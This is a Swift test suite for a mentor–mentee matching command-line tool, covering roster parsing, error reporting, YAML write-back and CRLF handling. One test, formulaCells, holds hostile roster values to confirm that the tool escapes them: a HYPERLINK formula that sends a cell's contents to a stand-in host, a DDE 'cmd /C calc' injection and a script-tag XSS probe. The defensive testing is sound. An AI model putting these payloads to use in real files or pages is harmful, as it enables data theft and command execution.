import Foundation
import Testing

@Suite("mentor match")
struct MatchCommandTests {
    static let example = ["Plans/examples/matching/program.yaml", "--roster", "Plans/examples/matching/roster.csv"]

    @Test("the example roster gives pairs with reasons, and the unmatched with reasons")
    func example() throws {
        let output = try Mentor.run(["match"] + Self.example)
        #expect(output.status == 0, "\(output.stderr)")
        #expect(output.stdout.contains("# Proposed groups: Water Services Mentoring 2027"))
        #expect(output.stdout.contains("| d12-e25 (pinned) | Tom Whitaker (d12) | Daniel Kim (e25) |"))
        #expect(output.stdout.contains("Priya Natarajan asked for Ines Carvalho"))
        #expect(output.stdout.contains("| Grace Liu (e26) | mentee | no mentor fits: of 4 with places, 4 do not meet the grade rule"))
        #expect(try Mentor.run(["match"] + Self.example).stdout == output.stdout, "the same input gives the same bytes")
    }

    @Test("JSON output carries groups, points and reasons")
    func json() throws {
        let output = try Mentor.run(["match"] + Self.example + ["--format", "json"])
        #expect(output.status == 0)
        let object = try #require(try JSONSerialization.jsonObject(with: Data(output.stdout.utf8)) as? [String: Any])
        let groups = try #require(object["groups"] as? [[String: Any]])
        #expect(groups.count == 6)
        #expect((object["unmatched"] as? [[String: Any]])?.count == 2)
        #expect((object["method"] as? String)?.hasPrefix("exact minimum-cost assignment") == true)
    }

    @Test("a bad roster: every problem with file:line:column and the line, exit 1")
    func badRoster() throws {
        let folder = try Mentor.folder([
            "roster.csv": "id,name,grade,role\na,Ann,12,mentr\nb,Bo,x,mentee\n"
        ])
        defer { try? FileManager.default.removeItem(at: folder) }
        let program = Mentor.packageRoot.appending(path: "Plans/examples/matching/program.yaml").path
        let output = try Mentor.run(["match", program, "--roster", "roster.csv"], in: folder)
        #expect(output.status == 1)
        #expect(output.stderr.contains("roster.csv:2:10: error: role 'mentr' is not one of mentor, mentee, both, peer"))
        #expect(output.stderr.contains("2 | a,Ann,12,mentr\n  |          ^"))
        #expect(output.stderr.contains("roster.csv:3:6: error: grade 'x' is not a whole number"))
        #expect(output.stderr.contains("'roster.csv' has errors (listed above)"))
        #expect(output.stdout.isEmpty)
    }

    @Test("--write adds the groups and people; the program then runs, and matching again adds nothing")
    func write() throws {
        let root = Mentor.packageRoot.appending(path: "Plans/examples/matching")
        let original = try String(contentsOf: root.appending(path: "program.yaml"), encoding: .utf8)
        let folder = try Mentor.folder([
            "program.yaml": original,
            "roster.csv": try String(contentsOf: root.appending(path: "roster.csv"), encoding: .utf8),
        ])
        defer { try? FileManager.default.removeItem(at: folder) }
        let first = try Mentor.run(["match", "program.yaml", "--roster", "roster.csv", "--write"], in: folder)
        #expect(first.status == 0, "\(first.stderr)")
        #expect(first.stderr.contains("added 6 groups to program.yaml"))
        let updated = try String(contentsOf: folder.appending(path: "program.yaml"), encoding: .utf8)
        #expect(updated.hasPrefix(original.components(separatedBy: "people:")[0]), "comments and settings are kept")
        #expect(updated.contains("  - { id: d11-e20, mentor: d11, mentees: [e20] }"))
        #expect(updated.contains("  - { id: e20, name: Priya Natarajan, grade: 12, department: Treatment, manager: d10 }"))
        let agenda = try Mentor.run(["agenda", "program.yaml", "--group", "d11-e20", "--meeting", "2"], in: folder)
        #expect(agenda.status == 0, "\(agenda.stderr)")
        let again = try Mentor.run(["match", "program.yaml", "--roster", "roster.csv", "--write"], in: folder)
        #expect(again.status == 0, "\(again.stderr)")
        #expect(again.stderr.contains("added 0 groups"))
        #expect(try String(contentsOf: folder.appending(path: "program.yaml"), encoding: .utf8) == updated)
    }

    @Test("--write on a program that uses the coordinator's own plans checks the new file with those plans")
    func writeWithLocalPlans() throws {
        let root = Mentor.packageRoot.appending(path: "Plans/examples/matching")
        var program = try String(contentsOf: root.appending(path: "program.yaml"), encoding: .utf8)
        program = program.replacingOccurrences(of: "\ntype: ", with: "\nplans: [our-values, development-needs]\ntype: ")
        let folder = try Mentor.folder([
            "program.yaml": program,
            "roster.csv": try String(contentsOf: root.appending(path: "roster.csv"), encoding: .utf8),
            "Plans/our-values.yaml": "plan: our-values\nextends: career\ntitle: Our values\n",
        ])
        defer { try? FileManager.default.removeItem(at: folder) }
        let write = try Mentor.run(["match", "program.yaml", "--roster", "roster.csv", "--write"], in: folder)
        #expect(write.status == 0, "\(write.stderr)")
        #expect(write.stderr.contains("added 6 groups to program.yaml"))
        let agenda = try Mentor.run(["agenda", "program.yaml", "--group", "d11-e20", "--meeting", "2", "--format", "json"], in: folder)
        #expect(agenda.status == 0, "\(agenda.stderr)")
    }

    @Test("a program whose groups are a flow list is left untouched, with the reason")
    func flowList() throws {
        let folder = try Mentor.folder([
            "program.yaml":
                "program: P\ntype: one-to-one\nstarts: 2027-01-11\npeople: [{ id: m0, name: M0, grade: 15 }, { id: e0, name: E0, grade: 11 }]\n"
                + "groups: [{ id: g0, mentor: m0, mentees: [e0] }]\n",
            "roster.csv": "id,name,grade,role\nm1,Mia,14,mentor\ne1,Eve,12,mentee\n",
        ])
        defer { try? FileManager.default.removeItem(at: folder) }
        let before = try String(contentsOf: folder.appending(path: "program.yaml"), encoding: .utf8)
        let output = try Mentor.run(["match", "program.yaml", "--roster", "roster.csv", "--write"], in: folder)
        #expect(output.status != 0)
        #expect(output.stderr.contains("'groups' is written as a flow list ([...]); write it as a block list"))
        #expect(try String(contentsOf: folder.appending(path: "program.yaml"), encoding: .utf8) == before)
    }

    @Test("an agenda for a program with no groups yet says to match first")
    func noGroups() throws {
        let output = try Mentor.run(["agenda", "Plans/examples/matching/program.yaml", "--meeting", "1"])
        #expect(output.status != 0)
        #expect(output.stderr.contains("has no groups yet; list them under 'groups:', or propose them from a roster with 'mentor match"))
    }

    @Test("--write keeps a CRLF program file's line endings, in a filled list and in 'people: []'")
    func writeCRLF() throws {
        let root = Mentor.packageRoot.appending(path: "Plans/examples/matching")
        let original = try String(contentsOf: root.appending(path: "program.yaml"), encoding: .utf8)
            .replacingOccurrences(of: "\n", with: "\r\n")
        let empty = "program: P\r\ntype: one-to-one\r\nstarts: 2027-01-11\r\npeople: []\r\ngroups: []\r\n"
        let folder = try Mentor.folder([
            "program.yaml": original,
            "empty.yaml": empty,
            "roster.csv": try String(contentsOf: root.appending(path: "roster.csv"), encoding: .utf8),
            "small.csv": "id,name,grade,role\r\nm1,Mia,14,mentor\r\ne1,Eve,12,mentee\r\n",
        ])
        defer { try? FileManager.default.removeItem(at: folder) }
        let first = try Mentor.run(["match", "program.yaml", "--roster", "roster.csv", "--write"], in: folder)
        #expect(first.status == 0, "\(first.stderr)")
        #expect(first.stderr.contains("added 6 groups to program.yaml"))
        #expect(!first.stderr.contains("Fatal error"))
        let updated = try String(contentsOf: folder.appending(path: "program.yaml"), encoding: .utf8)
        #expect(updated.hasPrefix(original.components(separatedBy: "people:")[0]), "comments and settings are kept")
        #expect(updated.contains("  - { id: d11-e20, mentor: d11, mentees: [e20] }\r\n"))
        #expect(updated.replacingOccurrences(of: "\r\n", with: "").contains("\n") == false, "every line ends in CRLF")
        let agenda = try Mentor.run(["agenda", "program.yaml", "--group", "d11-e20", "--meeting", "2"], in: folder)
        #expect(agenda.status == 0, "\(agenda.stderr)")

        let second = try Mentor.run(["match", "empty.yaml", "--roster", "small.csv", "--write"], in: folder)
        #expect(second.status == 0, "\(second.stderr)")
        #expect(
            try String(contentsOf: folder.appending(path: "empty.yaml"), encoding: .utf8) == "program: P\r\ntype: one-to-one\r\n"
                + "starts: 2027-01-11\r\npeople:\r\n  - { id: m1, name: Mia, grade: 14 }\r\n  - { id: e1, name: Eve, grade: 12 }\r\n"
                + "groups:\r\n  - { id: m1-e1, mentor: m1, mentees: [e1] }\r\n")
    }

    @Test("roster cells a spreadsheet would run as formulas are quoted in the Markdown tables; markup is escaped")
    func formulaCells() throws {
        let folder = try Mentor.folder([
            "program.yaml": "program: P\ntype: one-to-one\nstarts: 2027-01-11\npeople: []\ngroups: []\n",
            "roster.csv": "id,name,grade,role\nm1,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",14,mentor\n"
                + "e1,@SUM(1+1),12,mentee\n+e2,+cmd|' /C calc'!A0,13,mentee\ne3,-2+3,20,mentee\ne4,<script>alert(1)</script>,,mentee\n",
        ])
        defer { try? FileManager.default.removeItem(at: folder) }
        let output = try Mentor.run(["match", "program.yaml", "--roster", "roster.csv"], in: folder)
        #expect(output.status == 0, "\(output.stderr)")
        let rows = output.stdout.split(separator: "\n").filter { $0.hasPrefix("| ") }
        #expect(rows.contains { $0.hasPrefix("| m1-e1 | '=HYPERLINK(\"http://x.example/?\"&A1) (m1) | '@SUM(1+1) (e1) | 4 |") }, "\(rows)")
        #expect(rows.contains { $0.hasPrefix("| '+cmd\\|' /C calc'!A0 (\\+e2) | mentee |") }, "\(rows)")
        #expect(rows.contains { $0.hasPrefix("| '-2+3 (e3) | mentee |") }, "\(rows)")
        #expect(rows.contains { $0.hasPrefix("| \\<script>alert(1)\\</script> (e4) | mentee |") }, "\(rows)")
        for row in rows where !row.hasPrefix("| ---") {
            let cells = row.dropFirst(2).dropLast(2).components(separatedBy: " | ")
            for cell in cells {
                #expect(!["=", "+", "-", "@"].contains(cell.first.map(String.init) ?? ""), "a cell a spreadsheet would run: \(cell)")
            }
        }
    }
}

struct StandardInputTests {
    @Test("'-' reads a roster or an export from standard input, and errors name it <stdin>")
    func dash() throws {
        let root = Mentor.packageRoot.appending(path: "Plans/examples/matching")
        let folder = try Mentor.folder(["program.yaml": try String(contentsOf: root.appending(path: "program.yaml"), encoding: .utf8)])
        let roster = try String(contentsOf: root.appending(path: "roster.csv"), encoding: .utf8)
        let piped = try Mentor.run(["match", "program.yaml", "--roster", "-", "--format", "json"], in: folder, input: Data(roster.utf8))
        #expect(piped.status == 0, "\(piped.stderr)")
        #expect(piped.stdout.contains("\"groups\""))
        let bad = try Mentor.run(["match", "program.yaml", "--roster", "-"], in: folder, input: Data("id,name,role\nx1,Al,wizard\n".utf8))
        #expect(bad.status != 0)
        #expect(bad.stderr.contains("<stdin>:2:7: error: role 'wizard'"), "\(bad.stderr)")

        let (journalFolder, program) = try programCopy()
        try mentor(["log", program, "--group", "ruiz-lin", "--meeting", "1"], in: journalFolder)
        let export = try mentor(["export", program, "--include-private"], in: journalFolder).stdout
        let (other, _) = try programCopy()
        let imported = try Mentor.run(["import", program, "-"], in: other, input: Data(export.utf8))
        #expect(imported.status == 0, "\(imported.stderr)")
        #expect(imported.stdout.contains("imported 1 of 1 events"))
    }
}
